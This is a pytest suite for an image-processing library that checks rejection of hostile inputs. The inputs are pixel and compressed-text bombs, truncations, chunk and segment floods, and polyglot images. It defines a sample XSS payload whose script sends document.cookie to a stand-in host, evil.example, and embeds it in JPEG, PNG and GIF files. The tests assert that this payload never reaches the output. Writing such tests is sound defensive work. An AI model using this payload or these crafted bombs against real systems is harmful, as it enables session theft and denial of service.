"""Hostile inputs: bombs, truncations, polyglots. Each a clear reason, fast and small."""

from __future__ import annotations

import io
import json
import struct
import subprocess
import sys
import textwrap
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from PIL import Image

from imgproc import ImageRejected, process
from tests.unit.images import (
    RED,
    close,
    decode,
    encode,
    encode_heif,
    gif_frames,
    jpeg_declaring,
    jpeg_with_segment,
    png_chunk,
    png_declaring,
    png_raw,
    quadrants,
    tiff_with_ifd_loop,
)

TIME_GUARD_S = 3.0
PROJECT_ROOT = Path(__file__).resolve().parents[2]


def rejected(data: bytes, **limits: int) -> tuple[str, float]:
    """Process ``data`` expecting a rejection; return (reason, seconds taken)."""
    started = time.monotonic()
    with pytest.raises(ImageRejected) as caught:
        process(data, **limits)
    return caught.value.reason, time.monotonic() - started


def noise(size: tuple[int, int] = (640, 480)) -> Image.Image:
    return Image.effect_noise(size, 60).convert("RGB")


# --- declared-size bombs --------------------------------------------------------

BOMBS = {
    "png_100000x100000": lambda: png_declaring((100_000, 100_000)),
    "png_12000x12000": lambda: png_declaring((12_000, 12_000)),
    "jpeg_65500x65500": lambda: jpeg_declaring(encode(noise(), "JPEG"), (65_500, 65_500)),
    "jpeg_11000x11000": lambda: jpeg_declaring(encode(noise(), "JPEG"), (11_000, 11_000)),
    "gif_huge_logical_screen": lambda: gif_frames(1, screen=(65_535, 65_535)),
    "gif_frame_beyond_screen": lambda: gif_frames(1, screen=(1, 1), frame=(65_535, 65_535)),
    "gif_frame_20000_square": lambda: gif_frames(1, frame=(20_000, 20_000)),
}


@pytest.mark.parametrize("name", sorted(BOMBS))
def test_declared_size_bomb_is_too_many_pixels(name: str) -> None:
    reason, seconds = rejected(BOMBS[name]())
    assert reason == "too_many_pixels"
    assert seconds < TIME_GUARD_S


def test_max_pixels_is_a_per_call_argument() -> None:
    data = encode(noise((400, 300)), "PNG")
    assert process(data, max_pixels=120_000).width == 400
    reason, _ = rejected(data, max_pixels=119_999)
    assert reason == "too_many_pixels"
    assert Image.MAX_IMAGE_PIXELS == 89_478_485  # Pillow's global left alone


def test_decode_budget_refuses_before_decoding() -> None:
    data = png_declaring((8_000, 8_000))  # 64 MP, within max_pixels
    reason, seconds = rejected(data, max_decode_bytes=100_000_000)
    assert reason == "too_many_pixels"
    assert seconds < 0.5


def test_declared_big_png_with_missing_data_is_truncated_quickly() -> None:
    reason, seconds = rejected(png_declaring((9_000, 9_000)))
    assert reason == "truncated"
    assert seconds < TIME_GUARD_S


# --- metadata and structure bombs ----------------------------------------------


@pytest.mark.parametrize("chunk_type", [b"zTXt", b"iTXt"])
def test_png_text_chunk_bomb_rejected_quickly(chunk_type: bytes) -> None:
    inflated = zlib.compress(b"A" * 200_000_000, 9)  # 200 MB of text in ~200 KB
    header = b"Comment\x00\x00" if chunk_type == b"zTXt" else b"Comment\x00\x01\x00\x00\x00"
    bomb = png_chunk(chunk_type, header + inflated)
    for placement in ("before_idat", "after_idat"):
        data = png_raw((2, 2), 8, 0, [b"\x80\x80"] * 2, **{placement: bomb})
        reason, seconds = rejected(data)
        assert reason == "corrupt"
        assert seconds < TIME_GUARD_S


def test_png_many_text_chunks_bounded() -> None:
    chunk = png_chunk(b"zTXt", b"k\x00\x00" + zlib.compress(b"B" * 1_000_000, 9))
    data = png_raw((2, 2), 8, 0, [b"\x80\x80"] * 2, before_idat=chunk * 100)
    reason, seconds = rejected(data)  # 100 MB of text > Pillow's 64 MB total
    assert reason == "corrupt"
    assert seconds < TIME_GUARD_S


def test_tiff_ifd_loop_first_page_only() -> None:
    started = time.monotonic()
    result = process(tiff_with_ifd_loop(quadrants((300, 200))))
    assert time.monotonic() - started < TIME_GUARD_S
    assert (result.width, result.height) == (300, 200)


def test_gif_with_thousands_of_frames_uses_first_frame_fast() -> None:
    data = gif_frames(20_000)
    started = time.monotonic()
    result = process(data)
    assert time.monotonic() - started < 0.5
    assert (result.width, result.height) == (1, 1)
    assert close(decode(result.data).getpixel((0, 0)), RED, 8)


# --- truncation ----------------------------------------------------------------

TRUNCATABLE = {
    "jpeg": lambda: encode(noise(), "JPEG", quality=90),
    "jpeg_progressive": lambda: encode(noise(), "JPEG", quality=90, progressive=True),
    "png": lambda: encode(noise(), "PNG"),
    "gif": lambda: encode(noise(), "GIF"),
    "webp": lambda: encode(noise(), "WEBP", quality=90),
    "tiff": lambda: encode(noise(), "TIFF"),
    "bmp": lambda: encode(noise(), "BMP"),
    "avif": lambda: encode(noise(), "AVIF", quality=80),
    "heic": lambda: encode_heif(noise()),
}


@pytest.mark.parametrize("name", sorted(TRUNCATABLE))
def test_truncated_at_several_offsets(name: str) -> None:
    data = TRUNCATABLE[name]()
    assert process(data).width == 500
    offsets = [24, 40, 100] + [int(len(data) * f) for f in (0.1, 0.3, 0.5, 0.7, 0.9, 0.99)]
    for offset in offsets:
        reason, seconds = rejected(data[:offset])
        assert reason == "truncated", (name, offset, reason)
        assert seconds < TIME_GUARD_S


# --- polyglots -----------------------------------------------------------------

PAYLOAD = b"<script>fetch('https://evil.example/'+document.cookie)</script>"


def zip_payload() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("payload.js", PAYLOAD)
    return buffer.getvalue()


@pytest.mark.parametrize(
    "polyglot",
    [
        lambda: encode(quadrants((300, 200)), "JPEG") + zip_payload(),
        lambda: encode(quadrants((300, 200)), "JPEG") + PAYLOAD,
        lambda: jpeg_with_segment(encode(quadrants((300, 200)), "JPEG"), 0xFE, PAYLOAD),
        lambda: encode(quadrants((300, 200)), "PNG") + zip_payload(),
        lambda: png_raw((2, 2), 8, 0, [b"\x80\x80"] * 2, before_idat=png_chunk(b"tEXt", PAYLOAD)),
        lambda: encode(quadrants((300, 200)), "GIF", comment=PAYLOAD) + PAYLOAD,
    ],
    ids=["jpeg_zip", "jpeg_script", "jpeg_comment", "png_zip", "png_text", "gif_comment"],
)
def test_polyglot_payload_never_reaches_output(polyglot) -> None:
    data = polyglot()
    result = process(data)
    assert result.data != data
    assert PAYLOAD not in result.data
    assert b"payload.js" not in result.data
    assert b"PK\x03\x04" not in result.data
    assert b"script" not in result.data


# --- bounded memory (fresh process, peak RSS) -----------------------------------

_MEMORY_PROBE = textwrap.dedent(
    """
    import json, sys, zlib
    sys.path.insert(0, sys.argv[1])
    from imgproc import ImageRejected, process
    from tests.unit import images, memory, test_hostile

    inputs = {name: make() for name, make in test_hostile.BOMBS.items()}
    inputs["text_bomb"] = images.png_raw(
        (2, 2), 8, 0, [b"\\x80\\x80"] * 2,
        before_idat=images.png_chunk(b"zTXt", b"k\\x00\\x00" + zlib.compress(b"A" * 50_000_000)),
    )
    inputs["gif_frames"] = images.gif_frames(20_000)
    inputs["png_9000_missing_data"] = images.png_declaring((9_000, 9_000))
    outcomes = {}
    for name, data in inputs.items():
        try:
            outcomes[name] = process(data).format
        except ImageRejected as e:
            outcomes[name] = e.reason
    peak_mb = memory.peak_rss_mb()
    print(json.dumps({"peak_mb": peak_mb, "outcomes": outcomes}))
    """
)


def test_hostile_inputs_stay_within_memory() -> None:
    done = subprocess.run(
        [sys.executable, "-c", _MEMORY_PROBE, str(PROJECT_ROOT)],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert report["outcomes"]["text_bomb"] == "corrupt"
    assert report["outcomes"]["png_12000x12000"] == "too_many_pixels"
    assert report["peak_mb"] < 200, report


# --- structure floods: tiny in pixels, millions of elements for Python parsers -----


def bmp_rle8(size: tuple[int, int], rle: bytes) -> bytes:
    width, height = size
    offset = 14 + 40 + 1024
    file_header = struct.pack("<2sIHHI", b"BM", offset + len(rle), 0, 0, offset)
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(rle), 2835, 2835, 256, 0)
    return file_header + info + bytes(1024) + rle


def flood_gif_extensions(n_blocks: int) -> bytes:
    data = encode(Image.new("P", (16, 16)), "GIF")
    at = data.index(b"\x2c")
    return data[:at] + b"\x21\xfe\x00" * n_blocks + data[at:]


FLOODS = {
    "png_150k_empty_chunks": lambda: (
        (png := encode(Image.new("L", (2, 2)), "PNG"))[:33]
        + png_chunk(b"zzZz", b"") * 150_000
        + png[33:]
    ),
    "png_300k_tiny_idat": lambda: (
        png_raw((1, 1), 8, 0, [b"\x00"])[:33] + png_chunk(b"IDAT", b"") * 300_000
    ),
    "jpeg_20k_comment_segments": lambda: (
        (jpeg := encode(Image.new("RGB", (16, 16)), "JPEG"))[:2]
        + b"\xff\xfe\x00\x02" * 20_000
        + jpeg[2:]
    ),
    "jpeg_1m_fill_bytes": lambda: (
        (jpeg := encode(Image.new("RGB", (16, 16)), "JPEG"))[:2] + b"\xff" * 1_000_000 + jpeg[2:]
    ),
    "jpeg_600_scans": lambda: (
        encode(Image.new("RGB", (16, 16)), "JPEG", progressive=True)[:-2]
        + b"\xff\xda\x00\x08\x01\x01\x00\x01\x01\x00" * 600
        + b"\xff\xd9"
    ),
    "gif_100k_extension_blocks": lambda: flood_gif_extensions(100_000),
    "tiff_200k_strips": lambda: encode(Image.new("L", (2, 200_000), 9), "TIFF", tiffinfo={278: 1}),
    "bmp_rle8_3mb": lambda: bmp_rle8((4000, 4000), b"\x01\x07" * 1_500_000 + b"\x00\x01"),
    "bigtiff_huge_ifd": lambda: b"II+\x00\x08\x00\x00\x00" + struct.pack("<QQ", 16, 1 << 40),
}


@pytest.mark.parametrize("name", sorted(FLOODS))
def test_structure_flood_is_too_large_quickly(name: str) -> None:
    reason, seconds = rejected(FLOODS[name]())
    assert reason == "too_large"
    assert seconds < 0.5


def test_normal_structure_counts_pass() -> None:
    many_idat = encode(noise((800, 600)), "PNG")  # Pillow writes several IDAT chunks
    assert process(many_idat).width == 500
    strips = encode(Image.new("L", (300, 5_000), 9), "TIFF", tiffinfo={278: 1})  # 5000 strips
    assert process(strips).height == 500
    progressive = encode(noise((800, 600)), "JPEG", progressive=True, optimize=True)
    assert progressive.count(b"\xff\xda") > 3
    assert process(progressive).width == 500
